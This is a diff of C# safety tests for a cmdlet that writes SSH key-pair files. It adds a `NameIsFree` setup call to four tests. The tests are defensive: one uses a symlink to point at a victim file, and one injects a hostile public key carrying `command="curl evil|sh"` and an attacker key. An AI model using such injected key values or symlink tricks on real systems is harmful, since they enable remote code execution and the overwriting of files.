@@ -31,6 +31,7 @@ public sealed class NewVietnixKeyPairFileSafetyTests : IDisposable
         File.WriteAllText(victim, "precious\n");
         File.CreateSymbolicLink(keyFile + ".pub", victim);
         ExpectNameIsFree(harness, "k");
+        harness.NameIsFree();
         harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
             .ReturnsAsync((KeyPairCreateRequest request, CancellationToken _) => Stored(request));
 
@@ -75,6 +76,7 @@ public sealed class NewVietnixKeyPairFileSafetyTests : IDisposable
         using var harness = new CmdletHarness();
         var keyFile = Path.Combine(_folder, "k.pem");
         var hostile = NovaKeyPairs.GeneratedPublicKey + "\ncommand=\"curl evil|sh\" " + NovaKeyPairs.GeneratedPublicKey.Replace("Generated-by-Nova", "ATTACKER");
+        harness.NameIsFree();
         harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
             .ReturnsAsync(NovaKeyPairs.Generated("k", publicKey: hostile));
 
@@ -96,6 +98,7 @@ public sealed class NewVietnixKeyPairFileSafetyTests : IDisposable
         // Arrange
         using var harness = new CmdletHarness();
         var keyFile = Path.Combine(_folder, "k.pem");
+        harness.NameIsFree();
         harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
             .ReturnsAsync(NovaKeyPairs.Generated("k", privateKey: privateKey));
 
@@ -113,6 +116,7 @@ public sealed class NewVietnixKeyPairFileSafetyTests : IDisposable
         // Arrange: CRLF and a trailing newline, as some servers send.
         using var harness = new CmdletHarness();
         var keyFile = Path.Combine(_folder, "k.pem");
+        harness.NameIsFree();
         harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
             .ReturnsAsync(NovaKeyPairs.Generated("k", publicKey: NovaKeyPairs.GeneratedPublicKey + "\r\n"));
 
